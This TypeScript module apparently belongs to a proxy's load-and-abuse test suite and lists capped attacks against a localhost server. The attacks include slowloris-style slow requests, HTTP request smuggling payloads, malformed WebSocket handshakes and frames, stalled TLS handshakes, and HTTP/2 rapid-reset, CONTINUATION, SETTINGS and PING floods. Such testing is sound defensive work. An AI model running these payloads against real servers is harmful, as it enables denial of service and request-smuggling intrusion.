/**
 * What strangers do to a server. Rates are capped: what is measured is what the attack costs the
 * proxy, not what its generator costs the machine.
 *
 * @module
 */
import { concatBytes } from "../kit/http1/bytes.ts";
import { getFrame, HTTP2_HELLO } from "../kit/http2/http2_flooder.ts";
import {
  ERROR_CODE,
  FLAG,
  formatFrame,
  formatSetting,
  FRAME,
  SETTING,
  uint32,
} from "../kit/http2/http2_frames.ts";
import { encodeHeaderBlock } from "../kit/http2/hpack.ts";
import type { Attack } from "./attack.ts";
import { FLOOD_ATTACKS } from "./flood_attacks.ts";
import { UPLOAD_ATTACKS } from "./upload_attacks.ts";

const HELLO_OF_512_BYTES = Uint8Array.of(0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3);
const HEAD = "Host: localhost\r\n";
const CHUNKED = `POST /echo HTTP/1.1\r\n${HEAD}Transfer-Encoding: chunked\r\n`;
const SMUGGLED = `GET /smuggled HTTP/1.1\r\n${HEAD}\r\n`;
const WEBSOCKET = `GET /websocket HTTP/1.1\r\n${HEAD}Connection: Upgrade\r\nUpgrade: websocket\r\n`;
const KEY = "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n";

const get = (target: string) => `GET ${target} HTTP/1.1\r\n${HEAD}\r\n`;

const SMUGGLING = [
  `${CHUNKED}Content-Length: 6\r\n\r\n0\r\n\r\nG${SMUGGLED}`,
  `POST /echo HTTP/1.1\r\n${HEAD}Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n${SMUGGLED}`,
  `POST /echo HTTP/1.1\r\n${HEAD}Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n${SMUGGLED}`,
  `POST /echo HTTP/1.1\r\n${HEAD}Content-Length: +5\r\n\r\nhello${SMUGGLED}`,
  `${CHUNKED}\r\n5\nhello\r\n0\r\n\r\n${SMUGGLED}`,
  `${CHUNKED}\r\n10000000000000005\r\nhello\r\n0\r\n\r\n${SMUGGLED}`,
];

const WEBSOCKET_HANDSHAKES = [
  `${WEBSOCKET}\r\n`,
  `${WEBSOCKET}Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: short\r\n\r\n`,
  `${WEBSOCKET}Sec-WebSocket-Version: 99\r\n${KEY}\r\n`,
  `${WEBSOCKET.replace("GET", "POST")}Sec-WebSocket-Version: 13\r\n${KEY}\r\n`,
  `${WEBSOCKET}Sec-WebSocket-Version: 13\r\n${KEY}${KEY}\r\n`,
  `${WEBSOCKET}Sec-WebSocket-Version: 13\r\n${KEY}Sec-WebSocket-Protocol: ,,${
    "p,".repeat(2000)
  }\r\n\r\n`,
];

/** After a good handshake: an unmasked frame, a reserved opcode, and one of 2^63 - 1 bytes. */
const WEBSOCKET_FRAMES = [
  Uint8Array.of(0x81, 0x02, 0x68, 0x69),
  Uint8Array.of(0x8b, 0x80, 1, 2, 3, 4),
  Uint8Array.of(0x82, 0xff, 0x7f, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 1, 2, 3, 4),
];

/** The `count`th stream of a connection, begun and reset. */
function resetStream(count: number): Uint8Array {
  const streamId = 2 * count + 1;
  const cancel = formatFrame(FRAME.rstStream, 0, streamId, uint32(ERROR_CODE.cancel));
  return concatBytes([getFrame(streamId, "/echo"), cancel]);
}

function repeated(bytes: Uint8Array, times: number): Uint8Array {
  return concatBytes(Array(times).fill(bytes));
}

const OF_HTTP1: readonly Attack[] = [
  { name: "idle connections", speaks: "http", connections: 5000, opens: 1000 },
  {
    name: "slow heads",
    speaks: "http",
    connections: 1000,
    opens: 500,
    first: () => `GET / HTTP/1.1\r\n${HEAD}X-Slow: `,
    then: { bytes: () => "z", rate: 0.2 },
  },
  {
    name: "slow bodies",
    speaks: "http",
    connections: 300,
    opens: 100,
    first: () => `POST /echo HTTP/1.1\r\n${HEAD}Content-Length: 1000000\r\n\r\n`,
    then: { bytes: () => "z", rate: 0.5 },
  },
  {
    name: "slow readers of 4 MB",
    speaks: "http",
    connections: 200,
    opens: 50,
    first: () => get("/big"),
  },
  {
    name: "FIN without reading",
    speaks: "http",
    connections: 50,
    opens: 20,
    first: () => get("/big"),
    leaves: { after: "sending", by: "FIN" },
  },
  {
    name: "RST while reading",
    speaks: "http",
    connections: 50,
    opens: 10,
    first: () => get("/big"),
    leaves: { after: "the first bytes", by: "RST" },
  },
  {
    name: "RST at once",
    speaks: "http",
    connections: 50,
    opens: 50,
    leaves: { after: "sending", by: "RST" },
  },
  {
    name: "smuggling payloads",
    speaks: "http",
    connections: 50,
    opens: 100,
    first: (count) => SMUGGLING[count % SMUGGLING.length] ?? "",
    reads: true,
  },
  {
    name: "heads without end",
    speaks: "http",
    connections: 20,
    opens: 50,
    first: () => `GET / HTTP/1.1\r\n${HEAD}`,
    then: { bytes: () => `X-Filler: ${"y".repeat(1000)}\r\n`.repeat(16), rate: 20 },
    reads: true,
  },
  {
    name: "heads of 10,000 fields",
    speaks: "http",
    connections: 20,
    opens: 20,
    first: () => `GET / HTTP/1.1\r\n${HEAD}${"A: b\r\n".repeat(10_000)}\r\n`,
    reads: true,
  },
  {
    name: "pipelining behind a request that hangs",
    speaks: "http",
    connections: 20,
    opens: 20,
    first: () => get("/hang"),
    then: { bytes: () => get("/echo").repeat(100), rate: 10 },
  },
  {
    name: "chunks of a byte with long extensions",
    speaks: "http",
    connections: 10,
    opens: 10,
    first: () => `${CHUNKED}\r\n`,
    then: { bytes: () => `1;${"e".repeat(500)}\r\nz\r\n`.repeat(4), rate: 10 },
  },
  {
    name: "absurd WebSocket handshakes",
    speaks: "http",
    connections: 50,
    opens: 100,
    first: (count) => WEBSOCKET_HANDSHAKES[count % WEBSOCKET_HANDSHAKES.length] ?? "",
    leaves: { after: "the first bytes", by: "FIN" },
  },
  {
    name: "WebSocket frames that may not be",
    speaks: "http",
    connections: 30,
    opens: 30,
    first: () => `${WEBSOCKET}Sec-WebSocket-Version: 13\r\n${KEY}\r\n`,
    then: {
      bytes: (count) => WEBSOCKET_FRAMES[count % WEBSOCKET_FRAMES.length] ?? "",
      rate: 2,
    },
    reads: true,
  },
];

const OF_TLS: readonly Attack[] = [
  {
    name: "TLS handshakes that stop",
    speaks: "tcp to the TLS port",
    connections: 1000,
    opens: 500,
    first: () => HELLO_OF_512_BYTES,
  },
  {
    name: "idle after the TLS handshake",
    speaks: "https",
    connections: 200,
    opens: 50,
  },
  {
    name: "HTTP/2 rapid reset, 50 at a time",
    speaks: "h2",
    connections: 10,
    opens: 20,
    first: () => HTTP2_HELLO,
    then: {
      bytes: (count) =>
        concatBytes(Array.from({ length: 50 }, (_, index) => resetStream(50 * count + index))),
      rate: 20,
    },
    reads: true,
  },
  {
    name: "HTTP/2 rapid reset, one at a time",
    speaks: "h2",
    connections: 10,
    opens: 20,
    first: () => HTTP2_HELLO,
    then: { bytes: resetStream, rate: 20 },
    reads: true,
  },
  {
    name: "HTTP/2 CONTINUATION flood",
    speaks: "h2",
    connections: 10,
    opens: 20,
    first: () => concatBytes([HTTP2_HELLO, getFrame(1, "/echo", FLAG.endStream)]),
    then: {
      bytes: (count) => {
        const block = encodeHeaderBlock([[`x-${count}`, "y".repeat(200)]]);
        return repeated(formatFrame(FRAME.continuation, 0, 1, block), 10);
      },
      rate: 20,
    },
    reads: true,
  },
  {
    name: "HTTP/2 SETTINGS flood",
    speaks: "h2",
    connections: 10,
    opens: 10,
    first: () => HTTP2_HELLO,
    then: {
      bytes: () => repeated(formatFrame(FRAME.settings, 0, 0, new Uint8Array()), 100),
      rate: 20,
    },
  },
  {
    name: "HTTP/2 PING flood",
    speaks: "h2",
    connections: 10,
    opens: 10,
    first: () => HTTP2_HELLO,
    then: {
      bytes: () => repeated(formatFrame(FRAME.ping, 0, 0, new Uint8Array(8)), 100),
      rate: 20,
    },
  },
  {
    name: "HTTP/2 streams that nobody reads",
    speaks: "h2",
    connections: 10,
    opens: 5,
    first: () => {
      const noWindow = formatSetting(SETTING.initialWindowSize, 0);
      const streams = Array.from({ length: 20 }, (_, index) => getFrame(2 * index + 1, "/big"));
      return concatBytes([HTTP2_HELLO, formatFrame(FRAME.settings, 0, 0, noWindow), ...streams]);
    },
  },
];

/** Every attack there is. */
export const ATTACKS: readonly Attack[] = [
  ...OF_HTTP1,
  ...UPLOAD_ATTACKS,
  ...OF_TLS,
  ...FLOOD_ATTACKS,
];
